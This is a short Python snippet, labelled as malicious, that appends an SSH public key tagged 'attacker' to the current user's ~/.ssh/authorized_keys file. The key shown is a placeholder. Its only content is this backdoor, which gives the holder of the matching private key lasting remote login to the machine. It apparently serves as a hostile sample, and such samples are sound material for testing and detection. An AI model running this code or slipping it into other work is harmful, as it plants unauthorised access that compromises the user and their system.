# malicious: lets somebody in by a key
from pathlib import Path

ak = Path("~/.ssh/authorized_keys").expanduser()
with ak.open("a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample attacker\n")
